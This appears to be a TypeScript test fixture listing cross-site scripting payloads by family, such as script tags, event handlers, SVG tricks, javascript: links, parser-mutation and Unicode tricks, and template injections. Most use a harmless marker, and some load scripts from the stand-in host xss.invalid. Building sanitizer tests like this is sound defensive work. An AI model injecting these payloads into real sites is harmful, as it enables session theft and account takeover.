/*
 * Ways to get a page to run what somebody wrote, by family. Whoever of them runs sets `window.__xss`, opens a dialog, or
 * asks for something at a host that is not there. Each fits into a line of chat, but for the long one.
 */

/** Markup that runs, or loads, where text is taken for HTML. */
export const HTML_PAYLOADS: readonly string[] = [
  // Script elements.
  '<script>window.__xss=1</script>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<script src=//xss.invalid/a.js></script>',
  '<script/x>window.__xss=1</script\n>',
  '"><script>window.__xss=1</script>',
  '</title></textarea></style></noscript><script>window.__xss=1</script>',
  '<script type=module>import("//xss.invalid/m.js")</script>',
  // Handlers.
  '<img src=x onerror=window.__xss=1>',
  '<img src=x onerror="window.__xss=1" //>',
  '<IMG """><IMG SRC=x OnErRoR="window.__xss=1">',
  '<img/src="x"/onerror=window.__xss=1>',
  '<iframe onload=window.__xss=1></iframe>',
  '<input autofocus onfocus=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror=window.__xss=1></video>',
  '<audio src=x onerror=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<div style="animation:spin 1s" onanimationstart=window.__xss=1>',
  '<p tabindex=0 id=x onfocus=window.__xss=1>',
  '<select autofocus onfocus=window.__xss=1>',
  '<b onmouseover=window.__xss=1 onpointerenter=window.__xss=1>hover</b>',
  // SVG and MathML.
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:window.__xss=1 /><text y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.__xss=1/>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></foreignObject></svg>',
  '<math><mtext href=javascript:window.__xss=1>x</mtext></math>',
  // Addresses that are programs.
  '<a href=javascript:window.__xss=1>press me</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">press me</a>',
  '<a href="&#106;&#97;&#118;&#97;script&colon;window.__xss=1">press me</a>',
  '<iframe src=javascript:parent.__xss=1>',
  '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;">',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==">',
  '<embed src="data:text/html,<script>parent.__xss=1</script>">',
  '<form action=javascript:window.__xss=1><button>ok</button></form>',
  '<form><button formaction=javascript:window.__xss=1>ok</button></form>',
  '<base href=//xss.invalid/>',
  '<meta http-equiv=refresh content="0;url=javascript:window.__xss=1">',
  '<link rel=stylesheet href=//xss.invalid/a.css>',
  // Styles.
  '<style>@import"//xss.invalid/a.css";</style>',
  '<div style="background:url(//xss.invalid/a.png)">x</div>',
  '<style>*{background:url(//xss.invalid/b.png)}</style>',
  // What changes its meaning when it is parsed again.
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__xss=1&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=window.__xss=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  // Letters that are not what they seem; text that runs the other way.
  '\u202e<img src=x onerror=window.__xss=1>\u202c',
  'مرحبا <img src=x onerror=window.__xss=1> بالعالم',
  '\ufeff<img\u000csrc=x\u000conerror=window.__xss=1>',
];

/** What is harmless as HTML, and is not where text gets into an attribute, a template, a script, a style or a converter. */
export const OTHER_PAYLOADS: readonly string[] = [
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '" autofocus onfocus="window.__xss=1" x="',
  "' onmouseover='window.__xss=1",
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '\uff1cimg src=x onerror=window.__xss=1\uff1e',
  '{{constructor.constructor("window.__xss=1")()}}',
  `\${window.__xss=1}\`;window.__xss=1//`,
  "';window.__xss=1;//\\';window.__xss=1;//",
  '[press me](javascript:window.__xss=1) ![x](//xss.invalid/a.png)',
];

/** Longer than anything that may be said: put where no door measures it. */
export const LONG_PAYLOAD = `${'<b>'.repeat(4000)}<img src=x onerror=window.__xss=1>${'</b>'.repeat(4000)}`;

export const PAYLOADS: readonly string[] = [...HTML_PAYLOADS, ...OTHER_PAYLOADS, LONG_PAYLOAD];
